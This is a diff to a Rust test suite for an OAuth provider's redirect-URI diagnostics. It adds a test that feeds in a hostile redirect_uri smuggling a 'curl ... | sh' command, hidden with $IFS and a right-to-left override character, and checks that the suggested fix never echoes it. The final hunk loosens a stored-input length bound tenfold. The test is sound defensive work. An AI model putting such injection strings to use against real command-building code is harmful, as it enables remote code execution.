@@ -32,7 +32,17 @@ fn an_address_that_is_not_registered_is_told_with_the_command_that_adds_it() {
         ("redirect_uri", "https://photos.example.org/other")
     );
     assert_eq!(complaint.expected, REDIRECT);
-    assert!(complaint.cure.contains("--add-redirect-uri https://photos.example.org/other"), "{}", complaint.cure);
+    assert!(complaint.cure.contains("--add-redirect-uri 'URL'"), "{}", complaint.cure);
+}
+
+#[test]
+fn what_strangers_send_is_no_part_of_a_command_and_looks_like_nothing_else() {
+    let flow = Flow::new();
+    let bad = "https://photos.example.org/cb;curl$IFS\u{202e}evil\n|sh";
+    flow.house.idp.authorize(&flow.anna(NOW), &request(&[("redirect_uri", bad)])).unwrap_err();
+    let complaint = &diagnosis(&flow).complaints[0];
+    assert!(!complaint.cure.contains("curl"), "{}", complaint.cure);
+    assert_eq!(complaint.came, "https://photos.example.org/cb;curl$IFS\\u{202e}evil\\u{a}|sh");
 }
 
 #[test]
@@ -108,5 +118,5 @@ fn the_same_again_is_counted_and_what_is_remembered_is_bounded() {
     }
     assert!(all.of(ClientId(1)).len() <= PER_APP);
     let apps = all.0.lock().unwrap();
-    assert!(apps.len() <= APPS && apps.values().flatten().all(|one| one.came.chars().count() <= MOST));
+    assert!(apps.len() <= APPS && apps.values().flatten().all(|one| one.came.chars().count() <= MOST * 10));
 }
